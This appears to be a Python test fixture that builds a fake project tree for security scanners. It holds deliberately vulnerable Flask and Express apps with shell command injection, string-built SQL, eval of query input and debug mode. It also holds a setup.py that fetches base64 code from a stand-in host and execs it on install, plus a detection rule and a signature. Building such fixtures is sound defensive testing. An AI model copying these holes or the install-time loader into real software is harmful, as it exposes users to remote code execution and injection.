"""The app over which the recorded tools were run, at ``/tmp/tree``."""

APP = """\
import subprocess
import sqlite3

from flask import Flask, request

app = Flask(__name__)


@app.get("/run")
def run():
    return subprocess.check_output(request.args["command"], shell=True)


@app.get("/find")
def find():
    name = request.args["name"]
    with sqlite3.connect("people.sqlite") as database:
        return str(database.execute("SELECT * FROM people WHERE name = '" + name + "'").fetchall())


app.run(host="0.0.0.0", debug=True)
"""
SERVER = """\
const express = require("express");
const { exec } = require("child_process");

const app = express();

app.get("/run", (req, res) => {
  exec("ls " + req.query.folder, (error, output) => res.send(output));
});

app.get("/evaluate", (req, res) => {
  res.send(eval(req.query.expression));
});

app.listen(3000);
"""
SETUP = """\
from setuptools import setup
import base64, urllib.request

exec(base64.b64decode(urllib.request.urlopen("https://files.invalid/step").read()))
setup(name="nice-app")
"""
TREE = {
    "app.py": APP,
    "broken.py": "def broken(:\n",
    "notes.txt": "matrix-test-marker\n",
    "server.js": SERVER,
    "setup.py": SETUP,
    "tests/test_app.py": "def test_sum():\n    assert 1 + 1 == 2\n",
}
RULES = """\
rules:
  - id: debug-on
    pattern: $APP.run(..., debug=True, ...)
    message: The debugger of Flask runs whatever a visitor types.
    languages: [python]
    severity: ERROR
    metadata:
      cwe: ["CWE-489: Active Debug Code"]
      confidence: HIGH
"""
SIGNATURES = "Matrix.Test.Marker:0:*:6d61747269782d746573742d6d61726b6572\n"
